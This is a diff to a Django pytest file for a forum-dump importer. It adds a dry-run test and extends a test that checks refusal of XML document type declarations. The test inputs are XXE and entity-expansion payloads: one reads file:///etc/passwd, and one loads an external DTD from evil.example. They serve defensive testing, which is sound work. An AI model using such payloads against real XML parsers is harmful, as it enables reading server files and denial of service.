@@ -8,7 +8,7 @@ from typing import Any
 import pytest
 from django.core.management import CommandError, call_command
 
-from community.models import Answer, ImportedIdentity, ImportedItem, Solution, Thread
+from community.models import Answer, ImportedIdentity, ImportedItem, Solution, Thread, User
 from tests.community.import_files import dump
 
 pytestmark = pytest.mark.django_db
@@ -103,6 +103,12 @@ def test_a_duplicate_is_linked_to_the_earlier_question(tmp_path: Path) -> None:
     assert thread_of(9).linked_from == thread_of(1) and thread_of(9).state == "closed"
 
 
+def test_a_dry_run_writes_no_people_either(tmp_path: Path) -> None:
+    people = User.objects.count()
+    assert "nothing was written" in load(site(tmp_path), "--dry-run")
+    assert (User.objects.count(), ImportedIdentity.objects.count(), Thread.objects.count()) == (people, 0, 0)
+
+
 def test_a_second_dump_brings_only_what_is_new(tmp_path: Path) -> None:
     folder = site(tmp_path)
     load(folder)
@@ -131,10 +137,16 @@ def test_a_dump_that_breaks_off_gives_what_came_before(tmp_path: Path) -> None:
     assert thread_of(1).answer_count == 1
 
 
-def test_entities_and_document_types_are_refused(tmp_path: Path) -> None:
+@pytest.mark.parametrize(
+    "declared",
+    [
+        '<!DOCTYPE posts [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]>',
+        '<!DOCTYPE posts SYSTEM "http://evil.example/bomb.dtd">',
+    ],
+)
+def test_entities_and_document_types_are_refused(tmp_path: Path, declared: str) -> None:
     folder = site(tmp_path)
-    laughs = '<!DOCTYPE posts [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]>'
-    text = (folder / "Posts.xml").read_text().replace("<posts>", f"{laughs}\n<posts>").replace("This one", "&b;&c;")
+    text = (folder / "Posts.xml").read_text().replace("<posts>", f"{declared}\n<posts>").replace("one.", "&b;&c;")
     (folder / "Posts.xml").write_text(text)
     with pytest.raises(CommandError, match="declares a document type"):
         load(folder)
